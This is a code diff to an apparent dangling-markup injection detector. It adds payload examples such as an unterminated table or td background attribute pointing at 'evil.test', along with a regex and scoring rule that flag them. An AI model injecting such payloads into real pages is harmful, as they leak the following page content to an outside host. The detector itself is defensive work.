@@ -23,6 +23,8 @@ export const danglingMarkup: ValueRule = {
     '"><base target=\'',
     '"><plaintext>',
     "'><textarea name=x>",
+    '<table background="//evil.test?',
+    '<b>Hi</b> <td background="http://evil.test/?',
   ],
   lookalikes: [
     'The photo: <img src="https://cdn.example.org/ima',
@@ -108,6 +110,9 @@ function isOpen(text: string, { quote, valueEnd }: HtmlAttribute): boolean {
   return quote !== 0 && valueEnd === text.length;
 }
 
+/** `//evil.test?`: all that follows becomes the query, and nothing is asked for by it. */
+const bareHost = /^(?:https?:)?\/\/[\w.-]{1,200}\/?\?$/i;
+
 /** A text may be cut off in the middle of a URL; it is not made to end where data would follow. */
 function scoreOfOpen(text: string, tag: HtmlTag, open: HtmlAttribute, isOut: boolean): number {
   if (open.name === 'target') return tag.name === 'base' || isOut ? confidence.likely : 0;
@@ -115,6 +120,7 @@ function scoreOfOpen(text: string, tag: HtmlTag, open: HtmlAttribute, isOut: boo
   const url = squeeze(text, open.valueStart, open.valueEnd);
   if (!isForeignUrl(url)) return 0;
   if (isOut) return confidence.strong;
+  if (bareHost.test(url) && open.name === 'background') return confidence.likely;
   const isLoaded = tag.name === 'img' || tag.name === 'image' || tag.name === 'iframe';
   return isLoaded && tag.start === 0 && (url.endsWith('?') || url.endsWith('='))
     ? confidence.likely
